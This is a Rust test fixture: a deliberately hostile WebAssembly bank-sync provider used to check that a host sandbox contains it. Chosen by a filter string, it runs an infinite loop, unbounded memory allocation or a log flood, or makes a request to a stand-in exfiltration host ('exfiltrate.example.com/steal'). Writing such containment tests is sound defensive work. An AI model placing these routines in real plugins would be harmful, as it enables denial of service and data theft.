//! A provider that misbehaves on purpose, so the host's tests can prove it is contained.
//! `list-institutions` picks the misbehaviour from `filter.name-contains`:
//! `loop`, `memory`, `off-allowlist`, `big-response` (URL in config `url`), `log-flood`, `ok`.

#[cfg(target_arch = "wasm32")]
mod component {
    wit_bindgen::generate!({ world: "bank-provider", path: "../../wit" });

    use erp::bank_sync::{config, http, log, types::*};
    use exports::erp::bank_sync::provider::{
        ConnectStart, Connection, Guest, ProviderInfo, SyncBatch, SyncRequest,
    };

    struct Hostile;

    fn transport(e: http::HttpError) -> ProviderError {
        ProviderError::Transport(format!("{e:?}"))
    }

    fn get(url: &str) -> Result<http::Response, ProviderError> {
        http::send(&http::Request {
            method: http::Method::Get,
            url: url.into(),
            headers: vec![],
            body: http::Body::Text(String::new()),
            timeout_ms: None,
        })
        .map_err(transport)
    }

    fn unsupported() -> ProviderError {
        ProviderError::InvalidArgument(ArgumentError {
            name: "call".into(),
            reason: "not supported by the hostile guest".into(),
        })
    }

    impl Guest for Hostile {
        fn info() -> ProviderInfo {
            ProviderInfo {
                id: "hostile".into(),
                name: "Hostile".into(),
                version: "0.1.0".into(),
                api_version: "0.2.0".into(),
                config_keys: vec!["url".into()],
            }
        }

        fn list_institutions(filter: InstitutionFilter) -> Result<Vec<Institution>, ProviderError> {
            match filter.name_contains.as_deref().unwrap_or("ok") {
                "loop" => {
                    let mut n: u64 = 0;
                    loop {
                        n = std::hint::black_box(n.wrapping_add(1));
                    }
                }
                "memory" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(vec![1u8; 1 << 20]);
                        std::hint::black_box(&hoard);
                    }
                }
                "off-allowlist" => get("https://exfiltrate.example.com/steal").map(|_| vec![]),
                "big-response" => {
                    let url = config::get("url").unwrap_or_default();
                    get(&url).map(|_| vec![])
                }
                "log-flood" => {
                    for i in 0..100_000 {
                        log::write(log::Level::Info, &format!("flood line {i}"));
                    }
                    Ok(vec![])
                }
                _ => Ok(vec![]),
            }
        }

        fn begin_connect(_: String, _: String) -> Result<ConnectStart, ProviderError> {
            Err(unsupported())
        }

        fn complete_connect(_: String) -> Result<Connection, ProviderError> {
            Err(unsupported())
        }

        fn list_accounts(_: Option<String>) -> Result<Vec<Account>, ProviderError> {
            Ok(vec![])
        }

        fn sync(_: SyncRequest) -> Result<SyncBatch, ProviderError> {
            Err(unsupported())
        }

        fn request_reauthorization(_: String, _: String) -> Result<String, ProviderError> {
            Err(unsupported())
        }

        fn disconnect() -> Result<(), ProviderError> {
            Ok(())
        }
    }

    export!(Hostile);
}
